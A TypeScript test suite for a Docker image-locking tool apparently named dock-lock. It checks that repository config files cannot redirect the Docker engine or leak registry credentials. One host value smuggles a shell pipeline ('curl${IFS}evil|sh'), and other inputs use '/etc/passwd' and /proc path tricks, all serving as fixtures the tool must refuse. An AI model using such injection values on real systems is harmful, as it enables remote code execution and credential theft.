/** Who names an engine, and what that engine gets: a fake one on loopback records every header. */

import { createHash } from 'node:crypto'
import { mkdirSync, symlinkSync } from 'node:fs'
import { type AddressInfo, connect, createServer, type Socket } from 'node:net'
import { dirname } from 'node:path'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import type { Engine } from '../../src/commands/steps/engines.ts'
import { ensureImages } from '../../src/commands/steps/store.ts'
import { createContext } from '../../src/context.ts'
import { DockLockError } from '../../src/core/error.ts'
import type { Wanted } from '../../src/core/wanted.ts'
import { type Digest, lock, pull, type RunOptions, verify } from '../../src/index.ts'
import type { StoreInfo } from '../../src/stores/store.ts'
import { type FakeEngine, startEngine } from '../cli/support/engine.ts'
import { type Project, withProject } from '../cli/support/project.ts'
import { reference } from '../registry/support.ts'
import { authOf, DIGEST, withWorld } from '../registry/world.ts'
import { whereOf } from '../support/failure.ts'
import { listAll } from '../support/folder.ts'
import { mustTellNoSecret } from '../support/planted.ts'
import { asPlatform } from '../support/platform.ts'

const test = suite('commands/trust')

interface Bench {
  readonly project: Project
  readonly engine: FakeEngine
  /** The same engine by `tcp://127.0.0.1:PORT`. */
  readonly tcp: string
  readonly connections: () => number
}

/** An engine at `socket`, from the project's folder, and a project with a pinned image of a private registry. */
async function withBench(socket: string, use: (bench: Bench) => Promise<void>): Promise<void> {
  await withProject(async project => {
    project.write('Dockerfile', `FROM ghcr.io/o/i:1@${DIGEST}\n`)
    project.write('../home/.docker/config.json', JSON.stringify({ auths: authOf('ghcr.io') }))
    mkdirSync(dirname(project.path(socket)), { recursive: true })
    const engine = await startEngine(project.path(socket))
    const open = new Set<Socket>()
    let connections = 0
    const port = createServer(client => {
      connections += 1
      const onward = connect(project.path(socket))
      for (const each of [client, onward]) {
        open.add(each)
        each.on('error', () => each.destroy())
      }
      onward.pipe(client).pipe(onward)
    })
    await new Promise<void>(done => port.listen(0, '127.0.0.1', done))
    const tcp = `tcp://127.0.0.1:${(port.address() as AddressInfo).port}`
    try {
      await use({ project, engine, tcp, connections: () => connections + engine.requests.length })
    } finally {
      for (const each of open) each.destroy()
      await Promise.all([engine.close(), new Promise(done => port.close(done))])
    }
  })
}

/** Passwords that the engine was given, decoded. */
function given({ headers }: FakeEngine): readonly string[] {
  return headers.flatMap(({ 'x-registry-auth': auth }) =>
    auth === undefined ? [] : Buffer.from(String(auth), 'base64').toString(),
  )
}

const stores = (host: string): string => `stores:\n  - host: ${JSON.stringify(host)}\n`
const optionsOf = ({ root, env }: Project, more: RunOptions = {}): RunOptions => ({
  cwd: root,
  ...more,
  env: { ...env, ...more.env },
})

const COMMANDS = [
  ['dock-lock', lock, {}],
  ['dock-lock --frozen', lock, { frozen: true }],
  ['dock-lock --no-verify', lock, { noVerify: true }],
  ['dock-lock pull', pull, {}],
  ['dock-lock verify', verify, {}],
] as const

/** Locked already, by a run that asks no engine. */
async function locked({ project }: Bench): Promise<void> {
  await lock(optionsOf(project, { noVerify: true, offline: true }))
}

async function refusedIn(
  bench: Bench,
  host: string,
  commands: readonly (typeof COMMANDS)[number][],
): Promise<void> {
  const { project } = bench
  project.write('.dock-lock.yaml', stores(host))
  const state = () => [listAll(project.root), project.read('Dockerfile'), project.read('.dock-lock.yaml')]
  const before = state()
  for (const [name, command, options] of commands) {
    const error = await command(optionsOf(project, options)).then(
      () => undefined,
      (reason: unknown) => reason,
    )
    assert.ok(error instanceof DockLockError, `${name} ${host}: ${String(error)}`)
    assert.is(error.code, 'config', `${name} ${host}: ${error.message}`)
    assert.is(whereOf(error), '.dock-lock.yaml:2:5')
    assert.match(error.message, 'a repository may not name the engine')
    assert.ok(error.hint?.endsWith(/[$;()]/.test(host) ? '--host' : `--host ${host}`), error.hint)
    if (host.startsWith('tcp:')) assert.match(error.hint ?? '', 'add it to "trust"')
    mustTellNoSecret(`${error.message} ${error.hint}`)
  }
  assert.equal(state(), before)
  assert.is(bench.connections(), 0, host)
}

test('an engine that only the repository names is refused before anything is written or connected', () =>
  withBench('../engine.sock', async bench => {
    const { project, tcp } = bench
    const where = tcp.slice('tcp://'.length)
    const { port } = new URL(`http://${where}`)
    for (const host of [
      tcp,
      `${tcp}/`,
      `tcp://localhost:${port}`,
      `tcp://[::ffff:127.0.0.1]:${port}`,
      `ssh://root@${where}`,
      'npipe:////server/pipe/docker_engine',
      'unix://engine.sock',
      'tcp://attacker;curl${IFS}evil|sh',
    ]) {
      await refusedIn(bench, host, COMMANDS.slice(0, host === tcp ? 3 : 1))
      project.write('.dock-lock.yaml', '')
      await locked(bench)
      await refusedIn(bench, host, COMMANDS.slice(host === tcp ? 0 : 3, host === tcp ? undefined : 4))
      await project.exec('rm', ['docker-images.lock'])
    }
    project.write('.dock-lock.yaml', '')
    await locked(bench)
    project.write('.dock-lock.yaml', `stores: [{context: default}, {host: '${tcp}'}]\n`)
    for (const [, command, options] of COMMANDS) {
      const error = await command(optionsOf(project, options)).catch((reason: unknown) => reason)
      assert.ok(error instanceof DockLockError && error.code === 'config')
    }
    assert.is(bench.connections(), 0)
  }))

test('a socket in the project is the repository’s, by whatever path it is named', () =>
  withBench('sub/engine.sock', async bench => {
    const { project } = bench
    await locked(bench)
    mkdirSync(project.path('../outside'))
    symlinkSync(project.path('sub'), project.path('../outside/link'))
    symlinkSync('sub/engine.sock', project.path('link.sock'))
    for (const path of [
      project.path('sub/engine.sock'),
      project.path('link.sock'),
      project.path('../outside/link/engine.sock'),
      `${project.root}/../project/sub/engine.sock`,
      `/proc/self/root${project.path('sub/engine.sock')}`,
      project.path('sub/not-yet.sock'),
      project.path('../outside/link/not-yet.sock'),
    ])
      await refusedIn(bench, `unix://${path}`, [COMMANDS[0], COMMANDS[3]])
  }))

test('what the user names, trusts or keeps by name is pulled into, with the credentials', () =>
  withBench('../engine.sock', async bench => {
    const { project, engine, tcp } = bench
    await locked(bench)
    const id = createHash('sha256').update('far').digest('hex')
    project.write(
      `../home/.docker/contexts/meta/${id}/meta.json`,
      JSON.stringify({ Name: 'far', Endpoints: { docker: { Host: tcp } } }),
    )
    const user = '../home/.config/dock-lock/config.yaml'
    const cases: readonly [what: string, repository: string, user: string, options: RunOptions][] = [
      ['--host over the repository', stores('tcp://attacker:1'), '', { stores: [{ host: tcp }] }],
      ['DOCKER_HOST', '', '', { env: { DOCKER_HOST: tcp } }],
      ['DOCKER_HOST and the repository', stores(tcp), '', { env: { DOCKER_HOST: tcp } }],
      ['trust', stores(tcp), `trust: ['${tcp}']\n`, {}],
      ['stores of the user, and the repository', stores(tcp), stores(tcp), {}],
      ['stores of the user', '', stores(tcp), {}],
      ['a context', 'stores: [{context: far}]\n', '', {}],
      ['the default context', 'stores: [{context: default}]\n', '', { env: { DOCKER_HOST: engine.host } }],
      ['a socket outside', stores(engine.host), '', {}],
    ]
    for (const [what, repository, own, options] of cases) {
      project.write('.dock-lock.yaml', repository)
      project.write(user, own)
      engine.clear()
      const report = await pull(optionsOf(project, options))
      assert.is(report.exitCode, 0, what)
      assert.is(given(engine).length, 1, what)
      assert.match(given(engine)[0] ?? '', 'pl4nted-ghcr.io-', what)
      engine.remove(`ghcr.io/o/i@${DIGEST}`)
    }
  }))

test('DOCKER_CONTEXT is the user’s word, and the repository’s comes before it as a name alone', () =>
  withBench('../engine.sock', async bench => {
    const { project } = bench
    await locked(bench)
    for (const context of ['gone', '../gone', '/etc/passwd', 'a\\b']) {
      project.write('.dock-lock.yaml', `stores: [{context: ${JSON.stringify(context)}}]\n`)
      const error = await pull(optionsOf(project)).catch((reason: unknown) => reason)
      assert.ok(error instanceof DockLockError && /does not exist/.test(error.message), context)
    }
    assert.is(bench.connections(), 0)
  }))

test('Docker Hub’s password goes nowhere unverified, whatever a user’s engine reports of mirrors and registries', () =>
  withWorld(['registry-1.docker.io'], async world => {
    const names = ['docker.io', 'index.docker.io', 'registry-1.docker.io', 'auth.docker.io']
    for (const offer of ['verified', 'self-signed', 'http'] as const)
      await withProject(async project => {
        project.write('Dockerfile', 'FROM alpine:3\n')
        project.write('../home/.docker/config.json', JSON.stringify({ auths: authOf('docker.io') }))
        const mirrors = ['http://docker.io', 'http://index.docker.io']
        const engine = await startEngine(project.path('../engine.sock'), { mirrors, insecure: names })
        world.become({
          'registry-1.docker.io': { offer },
          'docker.io': { offer: 'http' },
          'index.docker.io': { offer: 'http' },
        })
        try {
          const env = { ...world.env, DOCKER_HOST: engine.host }
          await lock(optionsOf(project, { env, noPull: true }))
          const expected = offer === 'verified' ? ['https://registry-1.docker.io verified'] : []
          assert.equal(world.secretsOf('docker.io'), expected, offer)
        } finally {
          await engine.close()
        }
      })
  }))

test('files of the repository open nothing for credentials', () =>
  withWorld(['ghcr.io'], async world => {
    const insecure = 'registries: {ghcr.io: {insecure: true}}\n'
    for (const [files, own, secrets] of [
      [{ '.dock-lock.yaml': insecure }, '', []],
      [{ '.dock-lock.yaml': "registries: {ghcr.io: {mirrors: ['http://ghcr.io']}}\n" }, '', []],
      [{ 'package.json': '{"dock-lock": {"registries": {"ghcr.io": {"insecure": true}}}}' }, '', []],
      [
        { '.docker/config.json': '{"credsStore": "evil"}', '.config/dock-lock/config.yaml': insecure },
        '',
        [],
      ],
      [{ '.dock-lock.yaml': insecure }, insecure, ['http://ghcr.io http']],
    ] as const)
      await withProject(async project => {
        project.write('Dockerfile', 'FROM ghcr.io/o/i:1\n')
        project.write('../home/.docker/config.json', JSON.stringify({ auths: authOf('ghcr.io') }))
        for (const [name, text] of Object.entries(files)) project.write(name, text)
        project.write('../home/.config/dock-lock/config.yaml', own)
        world.become({ 'ghcr.io': { offer: 'http' } })
        await lock(optionsOf(project, { env: world.env, noVerify: true }))
        assert.equal(world.secretsOf('ghcr.io'), secrets, Object.keys(files).join())
      })
  }))

test('a reference holds no user, and a port is another registry', () =>
  withWorld(['ghcr.io', 'ghcr.io:5000'], async world => {
    for (const image of ['ghcr.io:5000/o/i:1', 'user:x@ghcr.io/o/i:1', 'GHCR.IO/o/i:1', 'ghcr.io./o/i:1'])
      await withProject(async project => {
        project.write('Dockerfile', `FROM ${image}\n`)
        project.write('../home/.docker/config.json', JSON.stringify({ auths: authOf('ghcr.io') }))
        world.become({ 'ghcr.io': { offer: 'verified' }, 'ghcr.io:5000': { offer: 'verified' } })
        await lock(optionsOf(project, { env: world.env, noVerify: true })).catch(() => {})
        assert.equal(world.secretsOf('ghcr.io'), [], image)
      })
  }))

test('should an engine of the repository be reached after all, it gets no credentials', async () => {
  const asked: string[] = []
  const context = {
    ...createContext({ cwd: '/', env: {} }),
    keychain: async () => async (registry: string) => {
      asked.push(registry)
      return { username: 'user', password: 'pl4nted' }
    },
  }
  const info: StoreInfo = {
    kind: 'docker',
    version: '',
    name: 'Docker',
    host: 'tcp://attacker:2375',
    imageStore: 'graphdriver',
    maxState: 'present',
    platform: asPlatform('linux/amd64'),
    mirrors: [],
    insecureRegistries: [],
    insecureCidrs: [],
  }
  const wanted: Wanted = {
    key: 'ghcr.io/o/i:1',
    reference: reference('ghcr.io/o/i:1'),
    digest: DIGEST as Digest,
  }
  for (const source of ['user', 'repository'] as const) {
    const engine: Engine = {
      reached: true,
      label: 'x',
      source,
      info,
      store: {
        info: async () => info,
        availability: async () => [
          { wanted, platform: asPlatform('linux/amd64'), state: 'absent', registryUse: 'required' },
        ],
        async pull(_wanted, { credentials }) {
          const known = await credentials?.('ghcr.io', 'o/i')
          assert.is(known !== undefined, source === 'user')
          return [{ wanted, ok: true }]
        },
        close() {},
      },
    }
    const bring = { pull: true, insist: true, required: true, moveTags: false, strict: false, dryRun: false }
    await ensureImages(
      context,
      [engine],
      () => ({ offered: [wanted], findings: [], placesOf: () => [] }),
      bring,
    )
  }
  assert.equal(asked, ['ghcr.io'])
})

test.run()
